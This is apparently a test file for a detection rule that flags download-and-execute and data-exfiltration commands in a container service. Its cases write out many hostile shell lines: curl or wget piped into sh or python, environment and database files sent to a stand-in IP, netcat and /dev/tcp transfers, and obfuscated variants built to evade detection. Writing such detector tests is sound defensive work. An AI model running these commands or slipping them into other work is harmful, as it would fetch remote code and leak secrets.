import { execDownload } from '../../../../shared/detection/rules/exec-download.ts';
import { execOfCart, ruleCases } from '../cases.ts';

const BASE = execOfCart("sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'");
const PROGRAM = 'system:serviceaccount:ci:runner';
const LESSER = { severity: 'medium', confidence: 0.4 } as const;

describe('rule exec-download', () => {
  ruleCases(execDownload, BASE, {
    fires: [
      ['kept by curl', { command: 'curl -sSLo /tmp/a https://files.example.com/a' }],
      ['kept by wget', { command: 'wget https://files.example.com/a' }],
      ['a file that is sent', { command: 'curl -T /data/orders.sql https://203.0.113.9/u' }],
      ['what is piped away', { command: 'sh -c env | curl -X POST -d @- http://203.0.113.9:8000' }],
      ['a file of a form', { command: 'curl -F "file=@/data/orders.sql" http://203.0.113.9/' }],
      ['a file that is sent to a named host', { command: 'curl -F f=@/data/a.sql https://files.example.com/' }, LESSER],
      ['a file that wget sends', { command: 'wget -O- --post-file=/etc/hosts http://203.0.113.9/' }],
      ['what wget shows within a time', { command: 'wget -T 10 -qO- http://203.0.113.9/x' }, LESSER],
      ['words that are sent, and an answer that is shown', { command: 'curl -d a=1 http://203.0.113.9/' }, LESSER],
      ['without a scheme', { command: 'wget 203.0.113.9/a' }],
      ['into a file', { command: 'sh -c curl -s https://files.example.com/a > /tmp/a' }],
      ['run by a shell', { command: 'bash -c bash <(curl -s https://files.example.com/a)' }],
      ['from an address as one number', { command: 'sh -c curl -o /tmp/a http://3405803785/a' }],
      ['run by Python without an argument', { command: 'sh -c curl -s https://files.example.com/a.py | sudo python3' }],
      [
        'run by Python with options',
        { command: `bash -c 'curl -s https://files.example.com/a.py | python3 -u - x; id'` },
      ],
      ['run by Python', { command: 'sh -c wget -qO- https://files.example.com/a.py | python3 -' }],
      ['after something else', { command: 'sh -c cd /tmp && wget https://files.example.com/a && ls' }],
      ['run by a shell, without spaces', { command: 'sh -c curl http://files.example.com/x.sh|sh' }],
      ['behind something that looks', { command: 'sh -c ls|curl http://files.example.com/x.sh|sh' }],
      ['in quotes that hide it', { command: 'sh -c c"u"rl http://files.example.com/x.sh|sh' }],
      ['in quotes that hide it, later', { command: `sh -c cd /tmp; w'g'et http://fi""les.example.com/x.sh` }],
      ['with escapes that hide it', { command: 'sh -c id; cu\\rl http://files.example.com/x.sh|sh' }],
      ['with variables that are spaces', { command: `sh -c curl\${IFS}http://files.example.com/x.sh|sh` }],
      ['with other variables that are spaces', { command: 'sh -c curl$IFS$9http://files.example.com/x.sh|sh' }],
      ['from nothing but an address', { command: 'sh -c curl -fsSL 203.0.113.9|sh' }],
      ['from nothing but a name', { command: "bash -c 'curl -s get.example.com | bash'" }],
      [
        'kept by the account of a program',
        { command: 'sh -c curl -sSL https://files.example.com/a.tgz | tar xz', principal: PROGRAM },
        LESSER,
      ],
      [
        'kept by the account of a program, from a bare address',
        { command: 'sh -c curl -s http://203.0.113.9/x.sh | sh', principal: PROGRAM },
      ],
      ['from a name in a variable', { command: 'sh -c u=http://files.example.com/x.sh; curl -s $u | sh' }],
      ['from another protocol', { command: 'sh -c curl -Ns telnet://203.0.113.9:443|sh' }],
      [
        'by Python',
        { command: `python3 -c 'import urllib.request as u;exec(u.urlopen("http://203.0.113.9/x").read())'` },
      ],
      [
        'by Node.js',
        {
          command: `node -e 'require("http").get("http://203.0.113.9/x",r=>r.pipe(require("fs").createWriteStream("x")))'`,
        },
      ],
      [
        'run by Python, from a program that has lost its quotes',
        { command: 'python3 -c import urllib.request as u;exec(u.urlopen("http://203.0.113.9/x").read())' },
      ],
      [
        'in base64',
        { command: `sh -c echo ${Buffer.from('curl http://203.0.113.9/x|sh').toString('base64')} | base64 -d | sh` },
      ],
      ['by Perl', { command: `perl -MLWP::Simple -e 'getstore("http://203.0.113.9/x", "/tmp/x")'` }],
      ['by PHP', { command: `php -r 'copy("https://files.example.com/x", "/tmp/x");'` }],
      [
        'by Python, only shown',
        { command: `python3 -c 'import requests; print(requests.get("https://files.example.com/x").text)'` },
        LESSER,
      ],
      [
        'read by a program of Python',
        { command: 'sh -c curl -s https://api.example.com/a | python3 -m json.tool' },
        LESSER,
      ],
      [
        'read by a program of Node.js',
        { command: `sh -c 'curl -s https://api.example.com/a | node -e "parse()"'` },
        LESSER,
      ],
      ['by another program', { command: 'aria2c https://files.example.com/a' }],
      ['by IPv6', { command: 'curl -O http://[2001:db8::9]/a' }],
      ['shown twice', { command: 'sh -c curl -s https://files.example.com/a | tee /dev/stderr | jq .' }, LESSER],
      ['only shown', { command: 'curl -s https://files.example.com/a' }, LESSER],
      ['shown by wget', { command: 'wget -qO- https://files.example.com/a' }, LESSER],
      ['thrown away', { command: 'curl -so /dev/null https://files.example.com/a' }, LESSER],
      [
        'asked for by the shell itself, as installers of miners do',
        {
          command:
            'bash -c exec 3<>/dev/tcp/203.0.113.9/80; echo -en "GET /k HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 > /dev/shm/k',
        },
      ],
      [
        'asked for by a function of the shell',
        {
          command:
            'bash -c f() { exec 3<>/dev/tcp/$H/80; printf "GET $P HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3; }; f http://203.0.113.9/k | bash',
        },
      ],
      [
        'asked for by the shell, only shown',
        {
          command: 'bash -c exec 3<>/dev/tcp/www.example.com/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3',
        },
        LESSER,
      ],
      ['read from a device', { command: 'bash -c cat </dev/tcp/203.0.113.9/80 > /tmp/k; chmod +x /tmp/k; /tmp/k' }],
      ['run by a shell as somebody else', { command: 'sh -c curl -sL https://files.example.com/x | sudo -E bash -' }],
      ['run by a shell with a variable', { command: 'sh -c curl -s https://files.example.com/x | env A=1 busybox sh' }],
      ['read by the shell itself', { command: 'bash -c . <(curl -s https://files.example.com/x)' }],
      ['into a file, behind a bar', { command: 'sh -c curl -s https://files.example.com/x | tee /tmp/x' }],
      ['into a file, by dd', { command: 'sh -c curl -s https://files.example.com/x | dd of=/tmp/x' }],
      [
        'by Python, in lines of its own',
        {
          command:
            "sh -c python3 - <<E\nimport urllib.request as u\nu.urlretrieve('http://203.0.113.9/k', '/tmp/k')\nE",
        },
      ],
      ['installed from an address', { command: 'pip install --quiet http://203.0.113.9/x.tar.gz' }],
      ['by netcat, with quotes in its address', { command: `sh -c nc 1''98.5"1".100.4 9000 > /tmp/k` }],
      ['by netcat', { command: 'sh -c nc 203.0.113.9 9000 > /tmp/k' }],
      ['by socat', { command: 'sh -c socat - TCP:203.0.113.9:80 >/tmp/k' }],
      ['a file that netcat sends', { command: 'sh -c nc -w 3 203.0.113.9 9000 < /data/orders.sql' }],
      ['an archive that netcat sends', { command: 'sh -c tar cz /data | busybox nc 203.0.113.9 9000' }],
      ['copied over SSH', { command: 'scp -o StrictHostKeyChecking=no root@203.0.113.9:/k /tmp/k' }],
      ['sent over SSH', { command: 'scp /data/orders.sql root@203.0.113.9:/u' }],
      ['by TFTP', { command: 'busybox tftp -g -r k 203.0.113.9' }],
      ['by FTP', { command: 'ftpget 203.0.113.9 /tmp/k k' }],
      ['by a text browser', { command: 'sh -c lynx -source http://203.0.113.9/k > /tmp/k' }],
      ['by curl under another name, for a shell', { command: 'sh -c /tmp/cd1 -fsSL http://203.0.113.9/x | bash' }],
      ['by curl wherever it is, for a shell', { command: 'sh -c $(which curl) -s http://203.0.113.9/x | sh' }],
      ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
    ],
    misses: [
      ['from the own host', { command: 'curl -o a http://localhost:8080/a' }],
      ['from a Service', { command: 'curl -o a http://cart.shop.svc:8080/a' }],
      ['from a Service by its whole name', { command: 'wget http://cart.shop.svc.cluster.local/a' }],
      ['from a Service by its short name', { command: 'wget http://cart:8080/a' }],
      ['from a private network', { command: 'wget http://10.8.0.3/a' }],
      ['from a private network, in hexadecimal', { command: 'wget http://0x0a.8.3/a' }],
      ['the state of something', { command: 'curl -s https://api.example.com/healthz' }],
      ['keys', { command: 'curl -s https://login.example.com/.well-known/jwks.json' }],
      ['an address that is only a header', { command: 'curl -o /tmp/a -H X-Forwarded-For: 8.8.8.8 http://localhost/' }],
      ['by Python, from a Service', { command: `python -c 'import requests; requests.get("http://cart.shop.svc/x")'` }],
      [
        'an address after a program of Python',
        { command: `sh -c 'python3 -c "fetch(1)"; ./app https://login.example.com/'` },
      ],
      ['a program of Python with an address', { command: 'python3 app.py --issuer https://login.example.com/' }],
      ['a file that is run', { command: 'sh -c curl -so run.example.sh http://cart/ | sh' }],
      ['no address', { command: 'curl --version' }],
      ['the name of a file', { command: 'tar xf curl-8.1.tar.gz/a' }],
      ['looked for', { command: 'sh -c ps aux | grep curl http://203.0.113.9/' }],
      ['looked for without spaces', { command: 'sh -c ps aux|grep curl http://203.0.113.9/' }],
      ['where it is', { command: 'which curl' }],
      [
        'the health of the own host, by the shell itself',
        {
          command:
            'bash -c exec 3<>/dev/tcp/127.0.0.1/9000; printf "GET /health HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3 > /tmp/h',
        },
      ],
      ['a port that is tried', { command: `bash -c 'timeout 3 bash -c "</dev/tcp/8.8.8.8/443" > /tmp/up'` }],
      ['a port that netcat tries', { command: 'sh -c nc -zv 203.0.113.9 443 > /tmp/up' }],
      ['a word that is sent to a port', { command: 'sh -c echo ruok | nc 203.0.113.9 2181' }],
      ['copied within a private network', { command: 'rsync -a backup@10.0.0.9:/data/ /data/' }],
      ['copied to a host with a name', { command: 'scp /data/a.sql backup@files.example.com:/u' }],
      [
        'a certificate that is looked at',
        { command: 'sh -c openssl s_client -connect 203.0.113.9:443 </dev/null >/tmp/c' },
      ],
      ['an address that is only said', { command: 'sh -c echo http://203.0.113.9/x | sh' }],
      ['installed from the usual place', { command: 'pip install requests==2.31' }],
      ['no such pod', { code: 5 }],
    ],
  });
});
